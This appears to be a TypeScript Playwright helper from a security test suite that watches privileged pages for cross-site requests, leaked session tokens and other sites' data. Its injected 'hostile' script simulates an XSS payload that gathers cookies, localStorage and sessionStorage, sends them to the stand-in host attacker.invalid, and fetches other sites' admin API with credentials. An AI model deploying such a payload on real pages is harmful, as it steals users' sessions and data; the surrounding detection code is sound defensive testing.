import type { BrowserContext, Page, Response } from 'playwright-core'
import { witness, type Witness } from '../witness.ts'

/** What the content of a screen did, in three figures that must be nought, and what else was seen. */
export type Meters = {
  readonly seen: Witness
  /** Requests that our own program did not make. */
  readonly calls: Set<string>
  /** Answers that hold a row of a site whose screen is not being looked at. */
  readonly rows: Set<string>
  /** Requests that carry somebody's session elsewhere than in its cookie. */
  readonly sessions: Set<string>
}

type Watched = {
  /** The host of every site, and a word that stands in its rows alone. */
  readonly canaries: ReadonlyMap<string, string>
}

/** Run in every page: what a payload does once it runs. Our own pages never call it. */
const hostile = (hosts: readonly string[]) => `(() => {
  const note = window.ran
  window.ran = (n) => {
    note?.(n)
    const take = (address) => fetch(address, { credentials: 'include' }).then((answer) => answer.text())
    const kept = JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }])
    for (const host of ${JSON.stringify(hosts)})
      take(location.protocol + '//' + host + ':' + location.port + '/app/api/admin/people?text=canary-').catch(() => 0)
    fetch('https://attacker.invalid/?kept=' + encodeURIComponent(kept)).catch(() => 0)
  }
})()`

/** Watches one page of somebody who holds rights: what runs in it, what it asks for, what it is answered. */
export async function watchPage(page: Page, { canaries }: Watched): Promise<Meters> {
  const seen = await witness(page)
  await page.addInitScript(hostile([...canaries.keys()]))
  const meters = { seen, calls: new Set<string>(), rows: new Set<string>(), sessions: new Set<string>() }
  const line = await page.context().newCDPSession(page)
  await line.send('Network.enable')
  const tokens = await tokensIn(page.context())
  line.on('Network.requestWillBeSent', ({ request, initiator, type }) => {
    const asked = { url: request.url, type: type ?? '', frames: initiator.stack?.callFrames ?? [] }
    if (isForeign(asked, [...canaries.keys()]))
      meters.calls.add(`${request.method} ${request.url.slice(0, 160)}`)
    const sent =
      decodeURIComponent(request.url.replace(/%(?![\da-f]{2})/gi, '%25')) + (request.postData ?? '')
    if (tokens.some((token) => sent.includes(token))) meters.sessions.add(request.url.slice(0, 60))
  })
  page.on('response', (response) => {
    void strayRow(page, response, canaries).then((stray) => stray && meters.rows.add(stray))
  })
  return meters
}

type Asked = {
  readonly url: string
  readonly type: string
  readonly frames: readonly { readonly url: string }[]
}

/** Whether a request leaves for a place that is none of ours, or is a call that no file of our program made. */
function isForeign({ url, type, frames }: Asked, hosts: readonly string[]): boolean {
  if (/^(?:data|blob|about):/.test(url)) return false
  const { hostname, pathname } = new URL(url)
  if (hostname === 'content.localhost' || hostname.endsWith('.content.localhost')) return false
  if (!hosts.includes(hostname)) return true
  if (!pathname.startsWith('/app/') || type === 'Document') return false
  const [first] = frames
  return first === undefined || !new URL(first.url || 'about:blank').pathname.startsWith('/assets/')
}

async function tokensIn(context: BrowserContext): Promise<string[]> {
  const cookies = await context.cookies()
  return cookies.filter(({ name }) => name.endsWith('sid')).map(({ value }) => value)
}

/** The word of another site than the one whose screen asked, where an answer holds it. */
async function strayRow(
  page: Page,
  response: Response,
  canaries: ReadonlyMap<string, string>,
): Promise<string | undefined> {
  const { pathname } = new URL(response.url())
  if (!pathname.startsWith('/app/')) return undefined
  const asking = new URL(page.url()).hostname
  const body = await response.text().catch(() => '')
  const stray = [...canaries].find(([host, word]) => host !== asking && body.includes(word))
  return stray && `${response.url()} on ${asking} shows ${stray[0]}`
}
